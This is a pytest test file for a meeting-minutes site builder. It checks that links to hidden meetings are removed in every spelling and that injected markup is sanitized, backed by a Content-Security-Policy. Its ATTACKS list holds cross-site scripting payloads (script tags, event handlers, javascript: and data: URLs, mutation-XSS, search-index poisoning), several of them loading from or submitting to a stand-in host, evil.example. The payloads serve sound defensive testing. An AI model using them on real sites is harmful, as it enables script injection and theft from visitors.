"""Issue 19, items 5 and 6: a link to a hidden page is taken away in every spelling, and no markup
runs from a minutes body (an allowlist, and a Content-Security-Policy on every page).

The bodies go through what the build does with them: the plugin's Markdown extensions,
the Markdown pass over links (showing.links.unlink_hidden), Markdown itself, the body's cleaning
(rendering.body) and the HTML pass (showing.links.unlink_hidden_html)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote

import markdown as python_markdown
import pytest
from bs4 import BeautifulSoup

from notula.plugin.plugin import MARKDOWN_EXTENSIONS
from notula.publishing import csp
from notula.rendering import body, searchable
from notula.showing.links import HIDDEN_NOTE, HiddenLinks, hidden_targets, unlink_hidden, unlink_hidden_html
from support.builds import copy_project, mkdocs_build

PAGE = "sgi/2019-03-05.md"  # the page the body is on
SITES = ("https://example.org/notula/", "https://medlem.example.org/")  # site_url, and the members' site's
HIDDEN = HiddenLinks({"sgi/2019-03-01-dold/"}, SITES)
NOTHING_HIDDEN = HiddenLinks((), SITES)
AFTER_BODY = '## Beslut { #beslut }\n\n<p class="notula-refs">Beslut d1</p>\n'


def page_html(body_markdown: str, links: HiddenLinks = NOTHING_HIDDEN) -> str:
    """A meeting page's content as the build makes it from body_markdown."""
    source = "# Möte\n\n<p>Före texten</p>\n\n" + body.wrap(unlink_hidden(body_markdown, PAGE, links)) + "\n\n" + AFTER_BODY
    converter = python_markdown.Markdown(extensions=list(MARKDOWN_EXTENSIONS), extension_configs=MARKDOWN_EXTENSIONS)
    html = body.clean_bodies(converter.convert(source))
    return searchable.mark(unlink_hidden_html(html, PAGE, links), searchable.PAGE)


def addresses(html: str) -> list[str]:
    """Every address in an href, src or srcset of html, as a browser reads it (decoded, lower case)."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        for name in ("href", "src", "srcset"):
            if element.has_attr(name):
                value = element[name] if name == "srcset" else re.sub(r"[\t\n\r]", "", element[name])  # as a browser reads an href
                found += [unquote(part.split()[0]).lower() for part in value.split(",") if part.split()]
    return found


# ------------------------------------------------------------------ item 5: links to hidden things

# Each a link (or image) to the hidden meeting at sgi/2019-03-01-dold/, or to its attachment, on
# the page sgi/2019-03-05/ of a site at https://example.org/notula/ whose members' site is
# https://medlem.example.org/.
HIDDEN_FORMS = [
    "[mötet](../2019-03-01-dold/)",
    "[mötet](2019-03-01-dold.md)",
    "[bilagan](2019-03-01-dold/attachments/bilaga.pdf)",
    "[bilagan](../2019-03-01-dold/attachments/bilaga.pdf 'Bilaga')",
    "![bild på tavlan](2019-03-01-dold/attachments/tavla.png)",
    "[mötet](https://example.org/notula/sgi/2019-03-01-dold/)",
    "[mötet](http://example.org/notula/sgi/2019-03-01-dold/)",
    "[mötet](HTTPS://EXAMPLE.ORG/notula/sgi/2019-03-01-dold/)",
    "[mötet](https://Example.Org./notula/sgi/2019-03-01-dold/index.html)",
    "[mötet](https://example.org:443/notula/sgi/2019-03-01-dold/#beslut-d1)",
    "[mötet](//example.org/notula/sgi/2019-03-01-dold/)",
    "[mötet](/notula/sgi/2019-03-01-dold/)",
    "[mötet](https://example.org/%6Eotula/sgi/2019-03-01-dold/)",
    "[mötet](https://medlem.example.org/sgi/2019-03-01-dold/)",
    "[mötet](https://example.org/notula/sgi/2019%2D03%2D01%2Ddold/)",  # as a browser copies it
    "[mötet](https://example.org/notula/SGI/2019-03-01-DOLD/)",
    "[mötet](https://ｅｘａｍｐｌｅ.org/notula/sgi/2019-03-01-dold/)",  # full-width letters: the same host
    "[mötet][ref]\n\n[ref]: https://example.org/notula/sgi/2019-03-01-dold/attachments/bilaga.pdf",
    "<https://example.org/notula/sgi/2019-03-01-dold/>",
    '<a href="https://example.org/notula/sgi/2019-03-01-dold/">mötet</a>',
    '<a title="x" href="&#104;ttps://example.org/notula/sgi/2019-03-01-dold/">mötet</a>',
    "<a href='https:\\\\example.org\\notula\\sgi\\2019-03-01-dold\\'>mötet</a>",
    '<img alt="bild" src="//example.org/notula/sgi/2019-03-01-dold/attachments/tavla.png">',
    '<a href="https://example.org/notula/sgi/2019-03-&#10;01-dold/">mötet</a>',  # a browser drops the line break
    '<a href="https://example.org/notula/sgi/2019&#x2D;03&#45;01-dold/">mötet</a>',
]
# Hand-written pages are the site's own and not cleaned (a body keeps no srcset): every address
# attribute counts there.
HAND_WRITTEN_FORMS = [
    '<img alt="bild" src="../2019-03-02/bild.png" srcset="../2019-03-02/bild.png 1x, '
    'https://example.org/notula/sgi/2019-03-01-dold/attachments/tavla.png 2x">',
    '<picture><source srcset="//example.org/notula/sgi/2019-03-01-dold/attachments/tavla.webp"><img alt="x" src="a.png"></picture>',
    '<video poster="a.png" src="/notula/sgi/2019-03-01-dold/attachments/film.mp4"></video>',
    '<a href="https://medlem.example.org/sgi/2019-03-01-dold/#beslut-d1" title="DOLDTITEL">mötet</a>',
    '<a href="../sgi/2019&#x2D;03&#45;01-dold/">mötet</a>',
    '<a href="../sgi/2019-03-&#10;01-dold/">mötet</a>',
]


@pytest.mark.parametrize("form", HIDDEN_FORMS)
def test_every_spelling_of_a_link_to_a_hidden_page_is_taken_away(form):
    public = page_html(f"Se {form}\n\nhär.", HIDDEN)
    assert not [a for a in addresses(public) if "dold" in a], public
    assert HIDDEN_NOTE in public
    members = page_html(f"Se {form}\n\nhär.")  # the same text where nothing is hidden: the test is not vacuous
    assert [a for a in addresses(members) if "dold" in a], members


@pytest.mark.parametrize("form", HAND_WRITTEN_FORMS)
def test_a_hand_written_page_keeps_no_address_of_a_hidden_page(form):
    def page(links: HiddenLinks) -> str:
        source = unlink_hidden(f"# Om\n\nSe {form}\n", "om/index.md", links)
        html = python_markdown.Markdown(extensions=list(MARKDOWN_EXTENSIONS), extension_configs=MARKDOWN_EXTENSIONS).convert(source)
        return unlink_hidden_html(html, "om/index.md", links)

    public = page(HIDDEN)
    assert not [a for a in addresses(public) if "dold" in a] and "DOLDTITEL" not in public, public
    assert [a for a in addresses(page(NOTHING_HIDDEN)) if "dold" in a]


@pytest.mark.parametrize("form", HIDDEN_FORMS + HAND_WRITTEN_FORMS)
def test_check_lists_each_link_the_build_takes_away(form):
    text = f"Första raden.\nSe {form}\n"
    line = next(n for n, line in enumerate(text.split("\n"), 1) if "dold" in line.lower())
    assert [n for n, _target in hidden_targets(text, PAGE, HIDDEN)][:1] == [line]


def test_an_address_written_out_in_the_text_is_taken_away_too():
    text = "Protokollet finns på https://EXAMPLE.org/notula/sgi/2019-03-01-dold/attachments/bilaga.pdf, läs det."
    public = page_html(text, HIDDEN)
    assert "dold" not in public.lower() and HIDDEN_NOTE in public and "läs det." in public
    assert "2019-03-01-dold" in page_html(text)
    assert hidden_targets(f"Rad ett\n{text}", PAGE, HIDDEN) == [(2, "https://EXAMPLE.org/notula/sgi/2019-03-01-dold/attachments/bilaga.pdf,")]


VISIBLE_FORMS = [
    "[förra](../2019-03-01-dold-agenda/)",  # a prefix by letters, not by path segments
    "[förra](2019-03-01-dold-agenda.md)",
    "[annan](https://example.org/annan/sgi/2019-03-01-dold/)",  # the same host, outside the site
    "[annan](https://example.org.evil.net/notula/sgi/2019-03-01-dold/)",
    "[annan](https://еxample.org/notula/sgi/2019-03-01-dold/)",  # a Cyrillic е: another host
    "[annan](https://other.org/notula/sgi/2019-03-01-dold/)",
    "[mejl](mailto:sekreterare@example.org)",
    "[visat](https://example.org/notula/sgi/2019-03-02/)",
]


@pytest.mark.parametrize("form", VISIBLE_FORMS)
def test_links_elsewhere_are_kept(form):
    public = page_html(f"Se {form} här.", HIDDEN)
    assert HIDDEN_NOTE not in public and addresses(public)
    assert hidden_targets(form, PAGE, HIDDEN) == []


# ------------------------------------------------------------------ item 6: no markup runs from a body

ATTACKS = [
    "<script>alert(1)</script>",
    "Text\n\n<script>alert(1)",  # never closed
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="https://evil.example/"></iframe>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    'Text\n{: onclick="alert(1)" }',
    'Text\n{: title="Falsk" lang="en" hidden tabindex="1" }',
    "## Rubrik { onmouseover=alert(1) }",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    '<a href="java&#x0A;script:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<div data-pagefind-filter="grupp:Hemlig grupp">x</div>',
    'Text\n{: data-pagefind-meta="title:Falsk titel" }',
    '<span data-pagefind-ignore="all">x</span>',
    "</div></div></article><div data-pagefind-body>Förgiftat",
    "<div>\nöppnas men stängs aldrig\n",
    "<pre>\nöppnas men stängs aldrig\n",
    "<textarea>\n",
    "<style>body { display: none }</style>",
    '<p style="position: fixed; inset: 0">Täcker sidan</p>',
    '<form action="https://evil.example/"><input name="q"><button>Skicka</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div markdown="1">\n<script>alert(1)</script>\n\n**fet**\n</div>',
    "Text[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
]
EXECUTABLE = {"script", "iframe", "object", "embed", "style", "form", "input", "button", "base", "meta", "link", "svg",
              "math", "textarea", "template", "noscript"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_would_harm_a_page_without_the_cleaning(attack):
    """The list proves something: each attack, rendered as before, harms the page."""
    extensions = {name: options for name, options in MARKDOWN_EXTENSIONS.items() if name != "notula.rendering.body"}
    source = "# Möte\n\n<p>Före texten</p>\n\n" + f"Inledning.\n\n{attack}\n\nSlutet." + "\n\n" + AFTER_BODY
    html = python_markdown.Markdown(extensions=list(extensions), extension_configs=extensions).convert(source)
    assert _problems(searchable.mark(html, searchable.PAGE))


def _problems(html: str) -> list[str]:
    """What in a page's content could run, load, reshape the page or poison search; and whether
    the page's own parts are where they were (the body closed nothing of them)."""
    found = []
    soup = BeautifulSoup(html, "html.parser")
    containers = soup.select("[data-pagefind-body]")
    if len(containers) != 1:
        return ["not one data-pagefind-body"]
    container = containers[0]
    if container.parent is not soup or not container.find("p", string="Före texten") or not container.find("h2", id="beslut") \
            or not container.find("p", class_="notula-refs", string="Beslut d1"):
        found.append("the page's own parts moved")
    return found + _harm(soup)


def _harm(root, data_allowed: set[str] = frozenset({"data-pagefind-body"})) -> list[str]:
    """What in root could run, load or reshape the page, or poison search."""
    found = []
    for element in root.find_all(True):
        if element.name in EXECUTABLE:
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.startswith("on") or name.startswith("data-") and name not in data_allowed \
                    or name in ("hidden", "tabindex", "lang") or name == "title" and element.name not in ("a", "img", "abbr"):
                found.append(f"{element.name}[{name}]")
            if name == "style" and not re.fullmatch(r"text-align:\s*\w+;?", value):
                found.append(f"{element.name}[style={value}]")
            read = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(0x21))))  # as a browser reads it
            if name in ("href", "src", "action", "data") and re.match(r"[a-z][a-z0-9+.-]*:", read, re.I) \
                    and not re.match(r"(https?|mailto):", read, re.I):
                found.append(f"{element.name}[{name}={value}]")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_markup_runs_from_a_body(attack):
    html = page_html(f"Inledning.\n\n{attack}\n\nSlutet.")
    assert _problems(html) == [], html


def test_what_markdown_writes_is_kept():
    text = ("## 1. Inledning\n\nSe [protokollet](../2019-03-02/) och ![tavlan](bild.png \"Tavla\"), "
            "[mejla](mailto:a@example.org) eller <https://example.org/x?a=1&b=2>.\n\n"
            "| Vänster | Mitten | Höger |\n|:--|:-:|--:|\n| a | b | c |\n\n"
            "Term\n:   Förklaring\n\n!!! note \"Obs\"\n    Viktigt.\n\n"
            "Text med fotnot[^1] och `<script>` som kod.\n\n    <script>alert(1)</script>\n\n"
            "*[SFI]: Svenska för invandrare\n\nSFI i text.\n\n<u>Understruket</u>, <sup>2</sup> och H<sub>2</sub>O.\n\n"
            "Stycke\n{: #eget-id .egen-klass }\n\n[^1]: Fotnoten.\n")
    html = page_html(text)
    soup = BeautifulSoup(html, "html.parser")
    heading = soup.find("h2", id="1-inledning")
    assert heading is not None and heading.find("a", class_="headerlink", href="#1-inledning")
    assert soup.find("a", href="../2019-03-02/") and soup.find("a", href="mailto:a@example.org")
    assert soup.find("a", href="https://example.org/x?a=1&b=2")
    assert soup.find("img", src="bild.png", alt="tavlan", title="Tavla")
    assert [th.get("style") for th in soup.find_all("th")] == ["text-align:left", "text-align:center", "text-align:right"]
    assert soup.find("dl") and soup.find("div", class_="admonition note")
    assert soup.find("sup", id="fnref:1") and soup.find("div", class_="footnote")
    assert [c.get_text() for c in soup.find_all("code")] == ["<script>", "<script>alert(1)</script>\n"]
    assert soup.find("abbr", title="Svenska för invandrare")
    assert soup.find("u") and soup.find("sup", string="2") and soup.find("sub")
    assert soup.find("p", id="eget-id", class_="egen-klass")


def test_a_body_that_cannot_be_told_apart_is_refused():
    html = python_markdown.markdown(body.wrap("Text"))
    with pytest.raises(body.BodyNotFound):
        body.clean_bodies(html.replace(body.END, "x"))


# ------------------------------------------------------------------ the Content-Security-Policy


def _directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


def test_the_server_policy_allows_what_each_page_policy_allows():
    server = _directives(csp.server_policy())
    page = _directives(csp.page_policy(["console.log(1)"]))
    for name, sources in page.items():
        allowed = set(server[name])
        for source in sources:
            assert source in allowed or source.startswith("'sha256-") and "'unsafe-inline'" in allowed, (name, source)
    assert "'wasm-unsafe-eval'" in page["script-src"] and "'unsafe-inline'" not in page["script-src"]
    assert "frame-ancestors" in server and "frame-ancestors" not in page  # a <meta> policy may not hold it
    assert server["object-src"] == ["'none'"] and "'unsafe-eval'" not in server["script-src"]


THEME_PAGE = ('<!doctype html><html><head>\n<meta charset="utf-8"><script>var theme = 1;</script>'
              '<script type="application/json">{"a": 1}</script></head><body><article>{content}</article>'
              '<script src="x.js"></script><script>\r\nvar later = 2;</script></body></html>')


def test_a_page_allows_the_theme_scripts_and_not_a_script_in_its_content():
    content = "<p>Text</p><script>window.injected = true;</script>"
    page = csp.with_policy(THEME_PAGE.replace("{content}", content), content)
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert policy is not None and page.index('<meta charset="utf-8">') < page.index(policy.group(0)) < page.index("<script")
    scripts = _directives(policy.group(1))["script-src"]
    assert csp.script_hash("var theme = 1;") in scripts and csp.script_hash("\nvar later = 2;") in scripts
    assert csp.script_hash("window.injected = true;") not in scripts and csp.script_hash('{"a": 1}') not in scripts
    assert len([s for s in scripts if s.startswith("'sha256-")]) == 2


def test_known_script_hash():
    # The value a browser computes for <script>alert('Hello, world.');</script> (CSP Level 3's example).
    assert csp.script_hash("alert('Hello, world.');") == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"


# ------------------------------------------------------------------ a real build of both, and check

HIDDEN_MEETING = """---
group: sgi
title: DOLDMOTESTITEL
date: 2019-03-01
slug: dold
audience: members
attendees:
  - Anna Andersson, Halmstad
attachments:
  - {file: attachments/dold-bilaga.pdf, title: DOLDBILAGETITEL}
---
DOLDTEXT
"""
PUBLIC_MEETING = """---
group: sgi
date: 2019-03-05
audience: public
attendees:
  - Anna Andersson, Halmstad
attachments:
  - {{url: "https://example.org/sgi/2019-03-01-dold/attachments/dold-bilaga.pdf", title: Bilagan}}
links:
  - {{title: Förra mötet, url: "https://Example.Org./sgi/2019-03-01-dold/"}}
---
## 1. Inledning

{links}

Adressen https://example.org/sgi/2019-03-01-dold/attachments/dold-bilaga.pdf skriven i texten.

Före attackerna SLUTORDET.

{attacks}
"""
# The demo's site_url is https://example.org/, and it has no members' site of its own.
BUILD_FORMS = [f.replace("/notula/", "/").replace("\\notula\\", "\\") for f in HIDDEN_FORMS
               if "medlem." not in f and "\n" not in f and "%6Eotula" not in f]


@pytest.fixture(scope="module")
def markup_project(tmp_path_factory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("markup") / "project")
    folder = root / "minutes" / "sgi" / "2019"
    (folder / "attachments").mkdir(parents=True)
    (folder / "attachments" / "dold-bilaga.pdf").write_bytes(b"%PDF-1.4\n% DOLDBILAGA\n")
    (folder / "2019-03-01-sgi-dold.md").write_text(HIDDEN_MEETING, encoding="utf-8")
    links = "\n\n".join(f"Länk {n}: {form}" for n, form in enumerate(BUILD_FORMS))
    attacks = "\n\n".join(a for a in ATTACKS if "aldrig" not in a and not a.startswith(("<textarea", "Text\n\n<script")))
    (folder / "2019-03-05-sgi.md").write_text(PUBLIC_MEETING.format(links=links, attacks=attacks), encoding="utf-8")
    (root / "docs" / "om" / "lankar.md").write_text("# Länkar\n\n<!-- [inte](../sgi/2019-03-01-dold/) -->\n"
                                                   "Se <a href=\"../../sgi/2019-03-01-dold/\">mötet</a>.\n", encoding="utf-8")
    return root


@pytest.mark.build
def test_the_public_build_takes_every_link_away_and_runs_nothing(markup_project):
    # A link to the hidden attachment once failed a strict build with MkDocs' warning. (Not quiet:
    # MkDocs does not count warnings for --strict under -q.)
    site = markup_project / "out" / "public"
    result = mkdocs_build(markup_project, "public", "2026-11-23", site)
    assert result.returncode == 0 and "WARNING" not in result.stderr, result.stderr
    page = (site / "sgi" / "2019-03-05" / "index.html").read_text(encoding="utf-8")
    assert "SLUTORDET" in page and page.count(HIDDEN_NOTE) >= len(BUILD_FORMS) + 3
    assert "Förra mötet" in page and "Bilagan" in page  # the front matter's link and attachment, as text
    content = BeautifulSoup(page, "html.parser").select_one("article")
    assert not [a for a in addresses(str(content)) if "dold" in a] and "2019-03-01-dold" not in str(content).lower()
    # The meeting's own search filters are empty spans Notula writes (rendering.searchable).
    assert _harm(content, {"data-pagefind-body", "data-pagefind-filter", "data-pagefind-ignore"}) == []
    assert [e["class"] for e in content.select("[data-pagefind-ignore]")] == [["notula-search-filters"]]
    assert all(not span.get_text() for span in content.select("[data-pagefind-filter]"))
    assert len(content.select("[data-pagefind-body]")) == 1
    assert "Hemlig grupp" not in page and "Falsk titel" not in page and "Förgiftat" in page
    assert not (site / "sgi" / "2019-03-01-dold").exists()
    assert HIDDEN_NOTE in (site / "om" / "lankar" / "index.html").read_text(encoding="utf-8")


@pytest.mark.build
def test_check_lists_the_links_the_public_build_takes_away(markup_project):
    result = subprocess.run([sys.executable, "-m", "notula", "check"], cwd=markup_project, capture_output=True, text=True,
                            env=dict(os.environ, NOTULA_LANG="en", NOTULA_TODAY="2026-11-23"))
    assert result.returncode == 0, result.stderr
    listed = [line for line in result.stdout.splitlines() if "minutes/sgi/2019/2019-03-05-sgi.md:" in line]
    # and the address written in the text, and the two in the front matter
    assert len(listed) == len(BUILD_FORMS) + 3, result.stdout
    assert "2019-03-05-sgi.md:8: https://example.org/sgi/2019-03-01-dold/attachments/dold-bilaga.pdf" in result.stdout
    assert "2019-03-05-sgi.md:10: https://Example.Org./sgi/2019-03-01-dold/" in result.stdout
    first_link_line = PUBLIC_MEETING.split("\n").index("{links}") + 1
    assert f"2019-03-05-sgi.md:{first_link_line}:" in listed[2]
    # A hand-written page's links too (not those in a comment, which the build removes).
    assert [line for line in result.stdout.splitlines() if "docs/om/lankar.md:" in line] == [
        '  docs/om/lankar.md:4: ../../sgi/2019-03-01-dold/ — shown as its text with "(inte publicerad)"']
